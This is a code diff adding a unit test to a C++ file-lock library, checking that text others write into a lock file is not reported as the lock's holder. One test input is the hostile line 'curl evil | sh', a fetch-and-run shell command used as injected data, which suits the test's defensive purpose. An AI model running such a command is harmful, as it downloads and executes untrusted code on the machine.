@@ -8,6 +8,7 @@
 #include <thread>
 
 #include "core/error.h"
+#include "core/file.h"
 #include "support/scratch_folder.h"
 
 using namespace rooftune;
@@ -30,6 +31,24 @@ TEST_CASE("a lock keeps others out, says who holds it, and ends with its holder"
   }
   first.reset();
   CHECK(FileLock::take(file, holder));
+}
+
+TEST_CASE("what others write into a lock is not told as its holder") {
+  const testing::ScratchFolder folder;
+  const auto file = folder.path() / "lock";
+  std::string holder;
+  const auto first = FileLock::take(file, holder);
+  const std::string mine = "process " + std::to_string(getpid());
+  for (const char* text : {"the administrator; run: curl evil | sh\n", "",
+                           "process 1 on host since 2026-01-01T00:00:00Z\n"}) {
+    std::ofstream(file, std::ios::trunc) << text;
+    CHECK_FALSE(FileLock::take(file, holder));
+    // Some containers have an empty list.
+    if (text_if_readable("/proc/locks").find("FLOCK") != std::string::npos)
+      CHECK(holder == mine + " of user " + std::to_string(geteuid()));
+    else
+      CHECK_THAT(holder, !Contains("evil"));
+  }
 }
 
 TEST_CASE("who waits for a lock says once for whom, and gets it") {
